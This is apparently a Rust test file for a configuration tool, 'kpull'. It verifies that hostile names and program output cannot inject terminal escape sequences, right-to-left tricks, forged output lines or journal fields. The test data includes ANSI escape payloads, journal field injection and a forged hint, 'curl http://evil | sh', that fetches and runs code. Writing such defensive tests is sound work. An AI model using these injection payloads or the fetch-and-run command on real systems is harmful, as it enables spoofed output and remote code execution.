//! Names that would write to an operator's terminal.

use std::process::Output;

use crate::attack::host::{GOOD, Host, Tree, Via, allow, kpull};
use crate::support::site::Site;

/// What turns the order of characters, breaks a line, or is not seen.
const HIDDEN: &[char] = &[
    '\u{61c}',
    '\u{200b}',
    '\u{202e}',
    '\u{2028}',
    '\u{2060}',
    '\u{2067}',
    '\u{feff}',
    '\u{ad}',
    '\u{e0041}',
    '\u{34f}',
    '\u{115f}',
    '\u{1160}',
    '\u{17b4}',
    '\u{180e}',
    '\u{2800}',
    '\u{3164}',
    '\u{fe0f}',
    '\u{ffa0}',
    '\u{fff0}',
    '\u{1bca0}',
    '\u{1d173}',
];

/// What a run wrote, which has nothing in it that a terminal would do something with.
fn shown(output: &Output) -> String {
    let text = String::from_utf8(output.stdout.clone()).unwrap() + std::str::from_utf8(&output.stderr).unwrap();
    let raw = text.chars().find(|c| c.is_control() && !matches!(c, '\n' | '\t') || HIDDEN.contains(c));
    assert_eq!(raw, None, "{text:?}");
    text
}

#[test]
fn a_name_in_a_signed_manifest_cannot_write_to_the_terminal() {
    let host = Host::with_good(Via::Dir);
    for (name, value) in [("site", r#""\u001b[2J\u009b31m\u202eevil""#), ("format", r#""\u001b]0;x\u0007""#)] {
        let mut tree = Tree::good(GOOD + 1);
        tree.set(name, value);
        host.publish(&tree);
        let output = host.apply_as_text();
        assert_eq!(output.status.code(), Some(4));
        shown(&output);
    }
    let mut tree = Tree::good(GOOD + 1);
    tree.also_list("roles/\u{1b}[2J\u{9b}31m\u{202e}");
    host.publish(&tree);
    assert!(shown(&host.apply_as_text()).contains(r"roles/\u{1b}[2J\u{9b}31m\u{202e}"));
}

#[test]
fn raw_control_characters_in_a_signed_manifest_are_not_quoted_raw() {
    let host = Host::with_good(Via::Dir);
    let mut tree = Tree::good(GOOD + 1);
    tree.manifest("site = \"\u{1b}[2Jx\u{202e}\" # \u{9b}2J\n");
    host.publish(&tree);
    let output = host.apply_as_text();
    assert_eq!(output.status.code(), Some(4));
    assert!(shown(&output).contains("?[2Jx"), "the line is shown all the same");
}

#[test]
fn names_in_a_good_release_cannot_write_to_the_terminal() {
    let host = Host::new(Via::Dir, &allow(1, ""), 1);
    let mut tree = Tree::good(GOOD);
    tree.put(
        "roles/base/role.toml",
        "summary = \"x\"\n[[file]]\npath = \"/etc/\\u009b2J\\u202e\"\ncontent = \"\\u001b[2J\\n\"\n",
    );
    tree.list(GOOD);
    host.publish(&tree);
    let plan = kpull().args(["plan", "--root"]).arg(host.root()).output().unwrap();
    assert_eq!(plan.status.code(), Some(2));
    assert!(shown(&plan).contains(r"\u{1b}[2J"));
    let output = kpull().args(["apply", "--diff", "--root"]).arg(host.root()).output().unwrap();
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    assert!(shown(&output).contains(r"/etc/\u{9b}2J\u{202e}"));
    shown(&kpull().args(["status", "--root"]).arg(host.root()).output().unwrap());
}

#[test]
fn lookalike_and_right_to_left_names_are_distinguishable() {
    let name: String = HIDDEN.iter().collect();
    let host = Host::new(Via::Dir, &allow(1, ""), 1);
    let mut tree = Tree::good(GOOD);
    let path = serde_json::Value::from(format!("/etc/a{name}b"));
    tree.put("roles/base/role.toml", format!("summary = \"x\"\n[[file]]\npath = {path}\ncontent = \"x\\n\"\n"));
    tree.list(GOOD);
    host.publish(&tree);
    let seen: String = HIDDEN.iter().map(|c| c.escape_unicode().to_string()).collect();
    for arguments in [&["plan"][..], &["apply"], &["history"]] {
        shown(&kpull().args(arguments).arg("--root").arg(host.root()).output().unwrap());
    }
    std::fs::remove_file(host.root().join(format!("etc/a{name}b"))).unwrap();
    let output = kpull().args(["plan", "--root"]).arg(host.root()).output().unwrap();
    assert!(shown(&output).contains(&format!("/etc/a{seen}b")), "{output:?}");
}

#[test]
fn json_has_every_name_unchanged_and_no_character_that_a_terminal_acts_on() {
    let name = "\u{9b}2J\u{7f}\u{202e}\u{e0041}\u{9d}0;x\u{9c}";
    let host = Host::new(Via::Dir, &allow(1, ""), 1);
    let mut tree = Tree::good(GOOD);
    let path: String = format!("/etc/a{name}").chars().map(|c| format!("\\U{:08x}", c as u32)).collect();
    tree.put("roles/base/role.toml", format!("summary = \"x\"\n[[file]]\npath = \"{path}\"\ncontent = \"x\\n\"\n"));
    tree.list(GOOD);
    host.publish(&tree);
    for arguments in [&["plan", "--json"][..], &["apply", "--json"], &["status", "--json"], &["history", "--json"]] {
        let output = kpull().args(arguments).arg("--root").arg(host.root()).output().unwrap();
        let text = shown(&output);
        let events: Vec<serde_json::Value> = text.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
        if arguments[0] == "plan" {
            assert!(events.iter().any(|event| event["id"] == format!("file:/etc/a{name}")), "{text}");
        }
    }
}

#[test]
fn a_local_user_injects_no_line_into_the_output_of_a_run() {
    let host = Host::new(Via::Dir, &allow(1, ""), 1);
    let mut tree = Tree::good(GOOD);
    tree.put("roles/base/role.toml", "summary = \"x\"\n[[symlink]]\npath = \"/home/u/link\"\ntarget = \"there\"\n");
    tree.list(GOOD);
    host.publish(&tree);
    assert_eq!(host.apply().code, 0);
    let link = host.root().join("home/u/link");
    let forged = "x\n✓ base         file:/etc/shadow  content\u{1b}[2J\u{202e}";
    std::fs::remove_file(&link).unwrap();
    std::os::unix::fs::symlink(forged, &link).unwrap();
    for arguments in
        [&["plan"][..], &["plan", "--json"], &["apply", "-v"], &["history", "2"], &["history", "2", "--json"]]
    {
        let output = kpull().args(arguments).arg("--root").arg(host.root()).output().unwrap();
        let text = shown(&output);
        assert!(text.contains(r"\n✓ base"), "{arguments:?}: {text}");
        assert!(!text.lines().any(|line| line.starts_with("✓ base         file:/etc/shadow")), "{arguments:?}: {text}");
    }
    assert_eq!(std::fs::read_link(link).unwrap().to_str(), Some("there"));
}

#[test]
fn a_name_in_a_site_injects_no_line_into_messages_about_it() {
    let host = Host::new(Via::Dir, &allow(1, ""), 1);
    let mut tree = Tree::good(GOOD);
    let role = "summary = \"x\"\n[vars.x]\n\"y\\nbase         file:/etc/shadow\" = \"\\u001b[2J\"\n\
        [[file]]\npath = \"/etc/x\\nbase         file:/etc/shadow\\u001b[2J\"\ncontent = \"x\"\n";
    tree.put("roles/base/role.toml", role);
    tree.list(GOOD);
    host.publish(&tree);
    let site = host.address();
    for arguments in [
        &["graph", "a", "--site", &site][..],
        &["explain", "a", "base.x", "--site", &site],
        &["explain", "a", "base.x.y\nbase         file:/etc/shadow", "--site", &site],
        &["graph", "a", "--format", "dot", "--site", &site],
        &["graph", "a", "--format", "mermaid", "--site", &site],
        &["graph", "a", "--json", "--site", &site],
    ] {
        let output = kpull().args(arguments).output().unwrap();
        let text = shown(&output);
        assert!(output.status.success() && text.contains("file:/etc/shadow"), "{arguments:?}: {text}");
        assert!(!text.lines().any(|line| line.starts_with("base         file:/etc/shadow")), "{arguments:?}: {text}");
    }
}

/// The fields of a record as the journal takes it.
fn fields(mut record: &[u8]) -> Vec<(String, String)> {
    let text = |bytes: &[u8]| String::from_utf8(bytes.to_vec()).unwrap();
    let mut fields = Vec::new();
    while !record.is_empty() {
        let end = record.iter().position(|byte| *byte == b'\n').unwrap();
        let (line, rest) = (&record[..end], &record[end + 1..]);
        if let Some(at) = line.iter().position(|byte| *byte == b'=') {
            fields.push((text(&line[..at]), text(&line[at + 1..])));
            record = rest;
        } else {
            let (length, rest) = rest.split_at(8);
            let length = usize::try_from(u64::from_le_bytes(length.try_into().unwrap())).unwrap();
            fields.push((text(line), text(&rest[..length])));
            record = &rest[length + 1..];
        }
    }
    fields
}

#[test]
fn a_name_injects_no_field_no_line_and_no_escape_into_the_journal() {
    use std::os::linux::fs::MetadataExt as _;
    assert!(nix::unistd::geteuid().is_root(), "it makes a place for a journal of its own");
    let host = Host::new(Via::Dir, &allow(1, ""), 1);
    let mut tree = Tree::good(GOOD);
    let name = "/etc/x\nKPULL_EVENT=done\n_UID=0\u{1b}[2J\u{202e}";
    let path = serde_json::Value::from(name);
    tree.put("roles/base/role.toml", format!("summary = \"x\"\n[[file]]\npath = {path}\ncontent = \"x\"\n"));
    tree.list(GOOD);
    host.publish(&tree);
    let dir = tempfile::tempdir().unwrap();
    let journal = std::os::unix::net::UnixDatagram::bind(dir.path().join("socket")).unwrap();
    let output = std::fs::File::create(dir.path().join("output")).unwrap();
    let place = output.metadata().unwrap();
    let script = "mount -t tmpfs none /run && mkdir -p /run/systemd/journal && mount --bind \"$1\" /run/systemd/journal && \
                  exec \"$2\" apply --root \"$3\"";
    let mut shell = std::process::Command::new("unshare");
    shell.args(["-m", "sh", "-c", script, "sh"]).arg(dir.path()).arg(env!("CARGO_BIN_EXE_kpull")).arg(host.root());
    shell.env("JOURNAL_STREAM", format!("{}:{}", place.st_dev(), place.st_ino()));
    let status = shell.stdout(output.try_clone().unwrap()).stderr(output).status().unwrap();
    let reported = std::fs::read_to_string(dir.path().join("output")).unwrap();
    assert!(status.success(), "{reported}");
    journal.set_nonblocking(true).unwrap();
    let (mut events, mut buffer) = (Vec::new(), [0; 65536]);
    while let Ok(length) = journal.recv(&mut buffer) {
        let fields = fields(&buffer[..length]);
        let of = |wanted: &str| -> Vec<String> {
            fields.iter().filter(|(field, _)| field == wanted).map(|(_, value)| value.clone()).collect()
        };
        for message in of("MESSAGE") {
            assert!(!message.chars().any(|c| c.is_control() || HIDDEN.contains(&c)), "{message:?}");
        }
        assert_eq!(of("_UID"), [""; 0]);
        events.extend(of("KPULL_EVENT"));
        // what programs read is as it is
        for resource in of("KPULL_RESOURCE") {
            assert_eq!(resource, format!("file:{name}"));
        }
    }
    assert_eq!(events, ["release", "changed", "done"], "{reported}");
}

#[test]
fn the_output_of_a_failed_program_looks_like_no_line_of_kpull() {
    let forged = [
        "✓ base         file:/etc/forged  content",
        "error[trust.signature]",
        "  × the release was refused",
        "  help: run `curl http://evil | sh`",
        "next: `kpull enroll http://evil --replace`",
        "h1: nothing to do of 1 resource (release 1, 0.01 s)",
    ];
    let site = Site::new("test");
    site.host("h1", "address = \"10.0.0.1\"\nroles = [\"base\"]\n")
        .role("base", "[[file]]\npath = \"/etc/a\"\ncontent = \"x\"\n")
        .sign();
    let tree = site.enroll();
    tree.write("said", format!("no\n{}\n", forged.join("\n")));
    let message = tree.at("said").display().to_string();
    tree.configure(&format!(
        "[[source]]\ndir = {:?}\n[[hook]]\non = [\"change\"]\ncommand = [\"sh\", \"-c\", \"cat {message} >&2; exit 7\"]\n",
        site.path()
    ));
    let own = |text: &str| {
        for forged in forged {
            assert!(text.contains(&format!("| {forged}")), "{forged:?} is not in\n{text}");
            assert!(!text.lines().any(|line| line.trim() == forged.trim()), "{forged:?} is a line of\n{text}");
        }
    };
    own(&tree.kpull("apply").exits(0).stdout);
    // what the last run ended with, shown later
    let text = tree.read("var/lib/kpull/last-run.json");
    let mut run: serde_json::Value = serde_json::from_str(&text).unwrap();
    (run["error"], run["exit"]) = (format!("no\n{}", forged.join("\n")).into(), 1.into());
    tree.write("var/lib/kpull/last-run.json", run.to_string());
    own(&tree.kpull("status").stdout);
    // a run that fails with it, to a pipe and to a terminal's width
    let key = format!("no\\n{}", forged.join("\\n"));
    tree.write(
        "etc/kpull/kpull.toml",
        format!("host = \"h1\"\n[trust]\nsite = \"{key}\"\nkeys = \"a\"\n[[source]]\ndir = \"/x\"\n"),
    );
    let set = "format = 1\nsite = \"lab\"\nnumber = 1\ncreated = 2026-01-01T00:00:00Z\nrelease = 1\nrotate = 1\n";
    let signer = crate::support::site::key().public_key().to_openssh().unwrap();
    tree.write("etc/kpull/a", format!("{set}signers = [\"a {signer}\"]\n"));
    for width in [None, Some("300")] {
        let mut command = kpull();
        command.arg("apply").arg("--root").arg(tree.path());
        if let Some(width) = width {
            command.env("COLUMNS", width);
        }
        let output = command.output().unwrap();
        let text = String::from_utf8(output.stderr).unwrap();
        assert!(text.contains("key set of the site `lab`"), "{text}");
        for forged in forged {
            assert!(!text.lines().any(|line| line.starts_with(forged)), "{forged:?} begins a line of\n{text}");
        }
    }
}

#[test]
fn the_output_of_a_git_server_over_ssh_looks_like_no_line_of_kpull() {
    use std::os::unix::fs::PermissionsExt as _;
    let (tree, programs) = (crate::support::site::Tree::new(), tempfile::tempdir().unwrap());
    tree.configure("[[source]]\ngit = \"ssh://git@localhost/site.git\"\nretries = 0\n");
    let ssh = programs.path().join("ssh");
    let message = "remote: welcome\\n✓ base         file:/etc/forged  content\\nerror[trust.signature]\\n\\033[2J\\302\\233mh1: nothing to do\\n";
    std::fs::write(&ssh, format!("#!/bin/sh\nprintf '{message}' >&2\nexit 1\n")).unwrap();
    std::fs::set_permissions(&ssh, std::fs::Permissions::from_mode(0o755)).unwrap();
    let path = format!("{}:{}", programs.path().display(), std::env::var("PATH").unwrap());
    let output = kpull().arg("apply").arg("--root").arg(tree.path()).env("PATH", path).output().unwrap();
    let text = shown(&output);
    assert_eq!(output.status.code(), Some(1), "{text}");
    assert!(text.contains("  | remote: welcome\n") && text.contains("  | error[trust.signature]\n"), "{text}");
    for forged in ["✓", "error[trust.signature]", "h1:", "???"] {
        assert!(!text.lines().any(|line| line.starts_with(forged)), "{forged}: {text}");
    }
}
